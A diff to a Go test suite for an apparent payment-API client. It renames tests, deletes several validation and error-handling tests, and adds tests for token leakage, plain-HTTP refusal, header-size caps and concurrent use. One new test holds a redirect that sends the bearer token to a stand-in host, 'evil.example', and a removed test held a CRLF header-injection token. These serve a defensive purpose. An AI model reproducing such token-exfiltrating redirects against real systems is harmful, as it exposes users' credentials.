@@ -15,22 +15,21 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/url"
+	"runtime"
 	"strconv"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
-	"unicode/utf8"
 
+	"github.com/enkash-oss/enkash-go/api"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 	"golang.org/x/oauth2"
-
-	enkash "github.com/enkash-oss/enkash-go"
-	"github.com/enkash-oss/enkash-go/api"
 )
 
-func TestUpdateCustomerSendsRequest(t *testing.T) {
+func TestUpdateCustomer_SendsRequest(t *testing.T) {
 	ts := newTestServer(t)
 	var got *http.Request
 	var gotBody []byte
@@ -60,9 +59,9 @@ func TestUpdateCustomerSendsRequest(t *testing.T) {
 	assert.Equal(t, json.Number("12345678.91"), cust.NetAmount)
 }
 
-// TestRequestMatchesGeneratedBuilder: the hand-built URL equals the one the
+// TestUpdateCustomer_RequestMatchesGeneratedBuilder: the hand-built URL equals the one the
 // generated api.NewUpdateCustomerRequest builds.
-func TestRequestMatchesGeneratedBuilder(t *testing.T) {
+func TestUpdateCustomer_RequestMatchesGeneratedBuilder(t *testing.T) {
 	ts := newTestServer(t)
 	var gotURL string
 	ts.mux.HandleFunc("PATCH /api/v0/customer/{id}", func(w http.ResponseWriter, r *http.Request) {
@@ -79,7 +78,7 @@ func TestRequestMatchesGeneratedBuilder(t *testing.T) {
 	assert.Equal(t, want.URL.RequestURI(), gotURL)
 }
 
-func TestValidationBeforeIO(t *testing.T) {
+func TestUpdateCustomer_ValidationBeforeIO(t *testing.T) {
 	ts := newTestServer(t)
 	seq := &sequence{steps: []func(http.ResponseWriter, *http.Request){status(200, "application/json", okEnvelope)}}
 	ts.mux.Handle("/", seq)
@@ -89,153 +88,7 @@ func TestValidationBeforeIO(t *testing.T) {
 	assert.Zero(t, seq.n.Load(), "no request may be sent")
 }
 
-func TestErrorTypesMapToSentinels(t *testing.T) {
-	want := map[api.ErrorType]error{
-		api.ErrorTypeClientRequestAbort: ErrClientRequestAbort, api.ErrorTypeClientRequestError: ErrClientRequestError,
-		api.ErrorTypeInvalidAccess: ErrInvalidAccess, api.ErrorTypeRecordNotFound: ErrNotFound, api.ErrorTypeSystemError: ErrSystemError,
-		api.ErrorTypeUnauthorized: ErrUnauthorized, api.ErrorTypeUnknownError: ErrUnknownError,
-		api.ErrorTypeUnprocessableRequest: ErrUnprocessable, api.ErrorTypeValidationError: ErrValidation,
-	}
-	doc, err := enkash.LoadSpec()
-	require.NoError(t, err)
-	enum := doc.Components.Schemas["ErrorType"].Value.Enum
-	require.Len(t, want, len(enum), "every errorType of the spec needs a sentinel")
-	for _, v := range enum {
-		et := api.ErrorType(v.(string))
-		sentinel := want[et]
-		require.NotNil(t, sentinel, et)
-		assert.Equal(t, sentinel, SentinelForErrorType(et))
-		for _, code := range []int{200, 400, 404, 500} {
-			t.Run(string(et)+"/"+http.StatusText(code), func(t *testing.T) {
-				ts := newTestServer(t)
-				ts.mux.HandleFunc("/", status(code, "application/json", errEnvelope(string(et), "went wrong")))
-				c, _ := newClient(t, ts, WithoutRetries())
-				cust, err := c.UpdateCustomer(context.Background(), validCustomerID, api.UpdateCustomerRequest{})
-				assert.Nil(t, cust)
-				assert.ErrorIs(t, err, sentinel)
-				for other, s := range want {
-					if other != et && s != sentinel {
-						assert.NotErrorIs(t, err, s, "also matches %s", other)
-					}
-				}
-				assert.Equal(t, code >= 500, errors.Is(err, ErrServer))
-				var ae *APIError
-				require.ErrorAs(t, err, &ae)
-				assert.Equal(t, code, ae.StatusCode)
-				assert.Equal(t, et, ae.ErrorType)
-				assert.Equal(t, "went wrong", ae.ErrorMessage)
-				assert.Equal(t, "req-42", ae.RequestID)
-				assert.Equal(t, "2025-11-20 16:15:30", ae.RawTimestamp)
-				assert.True(t, ae.Timestamp.Equal(time.Date(2025, 11, 20, 10, 45, 30, 0, time.UTC)), "IST is UTC+05:30: %v", ae.Timestamp)
-				assert.Equal(t, int32(400), ae.ResponseCode)
-				assert.Equal(t, "FAILURE", ae.ResponseMessage)
-				require.Len(t, ae.SubErrors, 2)
-				assert.Equal(t, "customerKeyContacts[0].mobile", ae.SubErrors[0].Field)
-				assert.Equal(t, redacted, ae.SubErrors[0].RejectedValue, "PII rejectedValue is redacted")
-				assert.Equal(t, "56", ae.SubErrors[1].RejectedValue)
-				assert.Contains(t, ae.Error(), "customerKeyContacts[0].mobile")
-				assert.Contains(t, ae.Error(), string(et))
-				assert.NotContains(t, ae.Error(), fxMobile)
-			})
-		}
-	}
-}
-
-func TestResponsesWithoutUsableEnvelope(t *testing.T) {
-	html502 := "<html><head><title>502 Bad Gateway</title></head><body><center><h1>502 Bad Gateway</h1></center><hr><center>nginx</center>" + strings.Repeat("<!-- padding -->", 40) + "</body></html>"
-	tests := []struct {
-		name     string
-		code     int
-		ctype    string
-		body     string
-		sentinel error
-		ok       bool
-		snippet  bool
-	}{
-		{"400 html", 400, "text/html", "<html>bad</html>", ErrClientRequestError, false, true},
-		{"401 empty", 401, "", "", ErrUnauthorized, false, false},
-		{"403 text", 403, "text/plain", "forbidden", ErrInvalidAccess, false, true},
-		{"404 empty json", 404, "application/json", "{}", ErrNotFound, false, false},
-		{"422 text", 422, "text/plain", "nope", ErrUnprocessable, false, true},
-		{"429 no retry", 429, "", "", ErrRateLimited, false, false},
-		{"500 html", 500, "text/html", "<h1>oops</h1>", ErrServer, false, true},
-		{"502 html", 502, "text/html", html502, ErrServer, false, true},
-		{"503 empty", 503, "", "", ErrServer, false, false},
-		{"302 redirect", 302, "", "", ErrUnexpectedStatus, false, false},
-		{"418 teapot", 418, "text/plain", "teapot", ErrUnexpectedStatus, false, true},
-		{"200 truncated json", 200, "application/json", okEnvelope[:40], ErrInvalidResponse, false, true},
-		{"200 empty", 200, "application/json", "", ErrInvalidResponse, false, false},
-		{"200 null", 200, "application/json", "null", ErrInvalidResponse, false, false},
-		{"200 payload null", 200, "application/json", `{"payload":null,"response_code":0}`, ErrInvalidResponse, false, false},
-		{"204 no content", 204, "", "", ErrInvalidResponse, false, false},
-		{"200 errorResponse", 200, "application/json", `{"payload":{"customerId":"x"},"errorResponse":{"errorType":"RECORD_NOT_FOUND"}}`, ErrNotFound, false, false},
-		{"200 errorResponse without type", 200, "application/json", `{"errorResponse":{"errorMessage":"?"}}`, nil, false, false},
-		{"200 wrong types", 200, "application/json", `{"payload":"customer","response_code":"zero"}`, ErrInvalidResponse, false, true},
-		{"200 invalid utf8", 200, "application/json", "{\"payload\":{\"customerId\":\"" + validCustomerID + "\",\"legalName\":\"\xff\xfe\"}}", nil, true, false},
-		{"200 invalid utf8 garbage", 200, "text/plain", "\xff\xfe\xfd not json", ErrInvalidResponse, false, true},
-		{"200 non-zero response_code with payload", 200, "application/json", `{"payload":{"customerId":"` + validCustomerID + `"},"response_code":7}`, nil, true, false},
-		{"200 json with wrong content type", 200, "text/html", okEnvelope, nil, true, false},
-		{"201 payload", 201, "application/json", okEnvelope, nil, true, false},
-	}
-	for _, tc := range tests {
-		t.Run(tc.name, func(t *testing.T) {
-			ts := newTestServer(t)
-			ts.mux.HandleFunc("/", status(tc.code, tc.ctype, tc.body))
-			c, _ := newClient(t, ts, WithoutRetries())
-			cust, err := c.UpdateCustomer(context.Background(), validCustomerID, api.UpdateCustomerRequest{})
-			if tc.ok {
-				require.NoError(t, err)
-				assert.NotNil(t, cust)
-				return
-			}
-			require.Error(t, err)
-			assert.Nil(t, cust)
-			var ae *APIError
-			require.ErrorAs(t, err, &ae)
-			assert.Equal(t, tc.code, ae.StatusCode)
-			if tc.sentinel != nil {
-				assert.ErrorIs(t, err, tc.sentinel)
-			}
-			assert.LessOrEqual(t, len(ae.Snippet), snippetMax+len("…"))
-			assert.True(t, utf8.ValidString(ae.Snippet))
-			assert.True(t, utf8.ValidString(ae.Error()))
-			if tc.snippet {
-				assert.NotEmpty(t, ae.Snippet)
-			}
-		})
-	}
-}
-
-func TestResponseSizeLimit(t *testing.T) {
-	big := `{"payload":{"customerId":"` + validCustomerID + `","address":"` + strings.Repeat("a", 2000) + `"}}`
-	for _, tc := range []struct {
-		name  string
-		limit int64
-		code  int
-		ok    bool
-	}{
-		{"under limit", int64(len(big)), 200, true},
-		{"one over", int64(len(big)) - 1, 200, false},
-		{"error status over", 100, 404, false},
-	} {
-		t.Run(tc.name, func(t *testing.T) {
-			ts := newTestServer(t)
-			ts.mux.HandleFunc("/", status(tc.code, "application/json", big))
-			c, _ := newClient(t, ts, WithMaxResponseBytes(tc.limit))
-			_, err := c.UpdateCustomer(context.Background(), validCustomerID, api.UpdateCustomerRequest{})
-			if tc.ok {
-				assert.NoError(t, err)
-				return
-			}
-			assert.ErrorIs(t, err, ErrResponseTooLarge)
-			var ae *APIError
-			require.ErrorAs(t, err, &ae)
-			assert.Equal(t, tc.code, ae.StatusCode)
-		})
-	}
-}
-
-func TestNewClientURLRules(t *testing.T) {
+func TestNewClient_URLRules(t *testing.T) {
 	for _, tc := range []struct {
 		url string
 		ok  bool
@@ -274,25 +127,7 @@ func TestNewClientURLRules(t *testing.T) {
 	}
 }
 
-func TestOptionErrors(t *testing.T) {
-	for name, opts := range map[string][]Option{
-		"two auths":          {WithToken("a"), WithTokenSource(nil)},
-		"token and password": {WithToken("a"), WithPasswordCredentials("id", "s", "u", "p")},
-		"empty token":        {WithToken("")},
-		"token with newline": {WithToken("abc\r\nX-Injected: 1")},
-		"nil http client":    {WithHTTPClient(nil)},
-		"timeout and client": {WithHTTPClient(&http.Client{}), WithTimeout(time.Second)},
-		"zero attempts":      {WithMaxAttempts(0)},
-		"zero body limit":    {WithMaxResponseBytes(0)},
-		"negative retry":     {WithRetry(RetryPolicy{BaseDelay: -1})},
-		"negative timeout":   {WithTimeout(-time.Second)},
-	} {
-		_, err := NewClient("https://api.enkash.example", opts...)
-		assert.Error(t, err, name)
-	}
-}
-
-func TestDefaultTransport(t *testing.T) {
+func TestNewClient_DefaultTransport(t *testing.T) {
 	c, err := NewClient("https://api.enkash.example")
 	require.NoError(t, err)
 	assert.Equal(t, DefaultTimeout, c.hc.Timeout)
@@ -317,7 +152,7 @@ func (c *countingTransport) RoundTrip(r *http.Request) (*http.Response, error) {
 	return c.next.RoundTrip(r)
 }
 
-func TestWithHTTPClientHonoured(t *testing.T) {
+func TestWithHTTPClient_Honoured(t *testing.T) {
 	ts := newTestServer(t)
 	ts.mux.HandleFunc("/", status(200, "application/json", okEnvelope))
 	ct := &countingTransport{next: ts.Client().Transport}
@@ -327,11 +162,11 @@ func TestWithHTTPClientHonoured(t *testing.T) {
 	assert.Equal(t, 1, ct.n)
 }
 
-// TestRedirectKeepsTokenHome: a redirect to another host never carries the
+// TestClient_RedirectKeepsTokenHome: a redirect to another host never carries the
 // bearer token. The default client does not follow redirects at all; an
 // injected client following them gets Go's rule (Authorization dropped on a
 // host change).
-func TestRedirectKeepsTokenHome(t *testing.T) {
+func TestClient_RedirectKeepsTokenHome(t *testing.T) {
 	other := newTestServer(t)
 	var otherAuth []string
 	otherHits := 0
@@ -368,8 +203,8 @@ func TestRedirectKeepsTokenHome(t *testing.T) {
 	})
 }
 
-// TestNeverPanics feeds odd bodies and statuses through a whole call.
-func TestNeverPanics(t *testing.T) {
+// TestClient_NeverPanics feeds odd bodies and statuses through a whole call.
+func TestClient_NeverPanics(t *testing.T) {
 	bodies := []string{"", "{", "null", "[]", `{"payload":[]}`, `{"errorResponse":"x"}`, `{"errorResponse":{"apiSubErrors":"x"}}`,
 		`{"errorResponse":{"apiSubErrors":[null,1,"x",{"rejectedValue":{"mobile":"9876543210"}}]}}`,
 		`{"errorResponse":{"timestamp":"2025-13-45 99:99:99","errorType":"NEW_TYPE"}}`, "\x00\xff", `{"payload":{"createdOn":"yesterday"}}`}
@@ -387,22 +222,6 @@ func TestNeverPanics(t *testing.T) {
 			}
 		}
 	}
-}
-
-func TestNetworkErrorTyped(t *testing.T) {
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	require.NoError(t, err)
-	addr := ln.Addr().String()
-	require.NoError(t, ln.Close()) // connection refused from now on
-	rec := &sleepRecorder{}
-	c, err := NewClient("http://"+addr, WithToken(fxToken), withSleep(rec.sleep))
-	require.NoError(t, err)
-	_, err = c.UpdateCustomer(context.Background(), validCustomerID, api.UpdateCustomerRequest{})
-	assert.ErrorIs(t, err, ErrNetwork)
-	var ae *APIError
-	assert.False(t, errors.As(err, &ae))
-	assert.Len(t, rec.get(), DefaultMaxAttempts-1, "network errors are retried")
-	assert.NotContains(t, err.Error(), fxToken)
 }
 
 // TestClient_PrintsNoCredentials: a Client printed with any verb, as a
@@ -550,11 +369,11 @@ func TestWithHTTPClient_RedirectAuthorizationStaysOnOrigin(t *testing.T) {
 	}
 }
 
-// TestProxyTextsMasked: an HTTP proxy (raw TCP) refusing with 407 and
+// TestClient_ProxyTextsMasked: an HTTP proxy (raw TCP) refusing with 407 and
 // echoing its own password and Proxy-Authorization — in the body of a
 // plain-http request's answer, or in the status text of a CONNECT that
 // net/http turns into an error — gets neither into any error of the tree.
-func TestProxyTextsMasked(t *testing.T) {
+func TestClient_ProxyTextsMasked(t *testing.T) {
 	const proxyPass = "px/Proxy+Pass-31415"
 	proxyBasic := "proxyuser:" + proxyPass
 	for name, base := range map[string]string{
@@ -611,4 +430,118 @@ func TestClient_ForConcurrency(t *testing.T) {
 	own, err := NewClient(a.URL+prefix, WithHTTPClient(&http.Client{}), WithToken(fxToken))
 	require.NoError(t, err)
 	assert.Same(t, own, own.ForConcurrency(16), "a caller's HTTP client is used as given")
+}
+
+// P8: redirect with token in Location; gzip body with token.
+func TestClient_RedirectEchoingTokenLeaksNothing(t *testing.T) {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		io.Copy(io.Discard, r.Body)
+		w.Header().Set("Location", "https://evil.example/?t="+r.Header.Get("Authorization"))
+		w.Header().Set("X-Debug", r.Header.Get("Authorization"))
+		w.WriteHeader(302)
+		io.WriteString(w, "moved "+r.Header.Get("Authorization"))
+	}))
+	defer srv.Close()
+	c, _ := NewClient(srv.URL, WithToken(hostileToken))
+	_, err := c.UpdateCustomer(context.Background(), validCustomerID, piiBody())
+	t.Logf("err: %v", err)
+	if l := leaks(err.Error()); len(l) > 0 {
+		t.Errorf("LEAK: %v", l)
+	}
+}
+
+// TestNewClient_PlainHTTPRefused: NewClient refuses plain http to any host that is not
+// loopback (the token would cross the network in clear), and accepts https
+// anywhere and plain http to loopback (tests, local fakes).
+func TestNewClient_PlainHTTPRefused(t *testing.T) {
+	for _, u := range []string{
+		"http://api.enkash.in", "http://api.enkash.in:443", "HTTP://api.enkash.in", "http://10.0.0.1",
+		"http://192.168.1.20:8080", "http://[2001:db8::1]", "http://0.0.0.0", "http://localhost.evil.example",
+		"http://127.0.0.1.nip.io", "http://[::ffff:10.0.0.1]",
+	} {
+		c, err := NewClient(u, WithToken(fxToken))
+		assert.Error(t, err, u)
+		assert.Nil(t, c, u)
+		if err != nil {
+			assert.NotContains(t, err.Error(), fxToken)
+		}
+	}
+	for _, u := range []string{
+		"https://api.enkash.in", "https://api.enkash.in/prefix", "https://10.0.0.1:8443",
+		"http://127.0.0.1:8080", "http://127.1.2.3", "http://localhost", "http://LocalHost:9", "http://[::1]:9",
+	} {
+		c, err := NewClient(u, WithToken(fxToken))
+		assert.NoError(t, err, u)
+		assert.NotNil(t, c, u)
+	}
+}
+
+// TestDefaultTransport_ResponseHeadersCapped (item 11): an 8 MiB response header is refused
+// by the default transport, and the call allocates a bounded amount, not a
+// multiple of the header.
+func TestDefaultTransport_ResponseHeadersCapped(t *testing.T) {
+	huge := []byte("HTTP/1.1 200 OK\r\nX-Junk: " + strings.Repeat("a", 8<<20) + "\r\nContent-Length: 2\r\n\r\n{}")
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	require.NoError(t, err)
+	done := make(chan struct{})
+	go func() { // answers one request; writes the prebuilt bytes (no copy)
+		defer close(done)
+		conn, err := ln.Accept()
+		if err != nil {
+			return
+		}
+		defer conn.Close()
+		if r, err := http.ReadRequest(bufio.NewReader(conn)); err == nil {
+			_, _ = io.Copy(io.Discard, r.Body)
+			_, _ = conn.Write(huge)
+		}
+	}()
+	defer func() { _ = ln.Close(); <-done }()
+	base := "http://" + ln.Addr().String()
+	c, err := NewClient(base, WithToken(fxToken), WithoutRetries())
+	require.NoError(t, err)
+	defer c.CloseIdleConnections()
+	var before, after runtime.MemStats
+	runtime.ReadMemStats(&before)
+	_, err = c.UpdateCustomer(context.Background(), validCustomerID, api.UpdateCustomerRequest{})
+	runtime.ReadMemStats(&after)
+	require.ErrorIs(t, err, ErrNetwork)
+	assert.Less(t, after.TotalAlloc-before.TotalAlloc, uint64(4<<20), "bytes allocated by one call with an 8 MiB header")
+}
+
+// TestClient_ConcurrentUse: 64 goroutines share one Client (run with -race); the
+// default transport keeps connections for reuse.
+func TestClient_ConcurrentUse(t *testing.T) {
+	var conns atomic.Int32
+	ts := newTestServer(t, func(srv *http.Server) {
+		srv.ConnState = func(_ net.Conn, s http.ConnState) {
+			if s == http.StateNew {
+				conns.Add(1)
+			}
+		}
+	})
+	ts.mux.HandleFunc("/", ok200)
+	c, err := NewClient(ts.URL+prefix, WithToken(fxToken))
+	require.NoError(t, err)
+	defer c.CloseIdleConnections()
+	const workers, calls = 64, 25
+	var wg sync.WaitGroup
+	var failures atomic.Int32
+	for range workers {
+		wg.Go(func() {
+			for range calls {
+				var b api.UpdateCustomerRequest
+				b.State.Set("Karnataka")
+				if _, err := c.UpdateCustomer(context.Background(), validCustomerID, b); err != nil {
+					failures.Add(1)
+				}
+			}
+		})
+	}
+	wg.Wait()
+	assert.Zero(t, failures.Load())
+	// Derived from the workload, not from scheduling: without reuse every
+	// call would open one (workers*calls); the default transport keeps up
+	// to 100 idle, and a busy machine may make it dial a few extra.
+	assert.Less(t, conns.Load(), int32(workers*calls/4), "connections are reused")
 }
